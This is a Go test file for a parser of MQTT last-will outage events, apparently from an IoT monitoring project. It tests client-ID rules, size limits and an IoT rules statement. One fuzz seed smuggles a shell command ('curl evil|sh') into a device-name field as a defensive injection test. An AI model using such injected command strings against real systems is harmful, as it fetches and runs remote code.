package outage

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"lastwill/internal/iotsql"
	"lastwill/internal/will"
)

func TestTheQueuesEventsAreRead(t *testing.T) {
	t.Parallel()
	at := time.UnixMilli(1_795_788_131_000).UTC()
	for _, c := range []struct {
		claim, body string
		want        Event
	}{
		{"the broker's client ID counts, not the payload's", `{"client":"pump-7","claimed":"pump-8","time":1795788131000}`, Event{"pump-7", at}},
		{"the payload's, where the broker knows none", `{"client":"n/a","claimed":"pump-8","time":1795788131000}`, Event{"pump-8", at}},
		{"the payload's, where there is none", `{"claimed":"pump-8","time":1795788131000}`, Event{"pump-8", at}},
		{"no time", `{"client":"pump-7"}`, Event{Device: "pump-7"}},
		{"a time that cannot be", `{"client":"pump-7","time":-5}`, Event{Device: "pump-7"}},
		{"letters beyond ASCII", `{"client":"wärme/7"}`, Event{Device: "wärme/7"}},
		{"no name", `{}`, Event{}},
		{"an empty name", `{"client":"","claimed":""}`, Event{}},
		{"a name that is a number", `{"client":"n/a","claimed":7}`, Event{}},
		{"128 bytes", `{"client":"` + strings.Repeat("x", 128) + `"}`, Event{Device: strings.Repeat("x", 128)}},
		{"129 bytes", `{"client":"` + strings.Repeat("x", 129) + `"}`, Event{}},
		{"AWS's own", `{"client":"n/a","claimed":"$aws"}`, Event{}},
		{"U+0000, which MQTT does not have", `{"client":"n/a","claimed":"a\u0000"}`, Event{}},
	} {
		got, err := ParseEvent([]byte(c.body))
		if err != nil || got != c.want {
			t.Errorf("%s: %v, %v; want %v", c.claim, got, err, c.want)
		}
	}
	for _, poison := range []string{"", "[]", "7", `{"time":"now"}`, "{", "\xff"} {
		if e, err := ParseEvent([]byte(poison)); err == nil {
			t.Errorf("%q was read as %v", poison, e)
		}
	}
}

// The statement and the parser are two ends of one contract.
func TestTheRulesStatementMakesEvents(t *testing.T) {
	t.Parallel()
	rule, err := iotsql.Compile(will.OutageSQL("/last/will/topic"), will.SQLVersion)
	if err != nil {
		t.Fatal(err)
	}
	for _, found := range rule.Check("/lwt/executed") {
		t.Errorf("%s", found)
	}
	now := time.Date(2026, 11, 28, 14, 2, 11, 0, time.UTC)
	for _, c := range []struct{ client, want string }{{"pump-7", "pump-7"}, {"", "lwtThing"}} {
		result := evaluate(t, rule, c.client, now)
		e, err := ParseEvent(result)
		if err != nil || e != (Event{c.want, now}) {
			t.Errorf("from client %q: %s became %v, %v", c.client, result, e, err)
		}
	}
}

// A check's device vanishes on purpose, and does not come back.
func TestAChecksClientIsNotTold(t *testing.T) {
	t.Parallel()
	s := Sweeper{Grace: time.Minute, Clock: time.Now}
	check := Message{Body: []byte(`{"client":"` + will.NewCheckName(will.ThingName) + `"}`)}
	device := Message{Body: []byte(`{"client":"pump-check-1"}`)}
	arrivals, done := s.group([]Message{check, device})
	if len(arrivals) != 1 || arrivals[0].item.Device != "pump-check-1" || len(done) != 1 {
		t.Errorf("%v, %d messages are done", arrivals, len(done))
	}
}

func FuzzParseEvent(f *testing.F) {
	f.Add([]byte(`{"client":"pump-7","claimed":"pump-8","time":1795788131000}`))
	f.Add([]byte(`{"client":"n/a","claimed":"a\nb;curl evil|sh","time":1e308}`))
	f.Fuzz(func(t *testing.T, body []byte) {
		e, err := ParseEvent(body)
		if err == nil && !json.Valid(body) {
			t.Errorf("took %q", body)
		}
		if err != nil || e.Device == "" {
			return
		}
		if !possible(e.Device) {
			t.Errorf("took the client ID %q", e.Device)
		}
		i := Item{Device: e.Device, Since: e.Time, Reason: e.Device}
		checkMail(t, newMail("", time.Minute, []Change{{Item: i, Verdict: Say}}, time.Now()))
	})
}

func evaluate(t *testing.T, rule *iotsql.Rule, client string, now time.Time) []byte {
	t.Helper()
	result, err := rule.Eval(&iotsql.Message{Topic: "/last/will/topic", Payload: will.Payload(will.ThingName), ClientID: client, Time: now})
	if err != nil || !result.Fired {
		t.Fatalf("%+v, %v", result, err)
	}
	return result.Payload
}
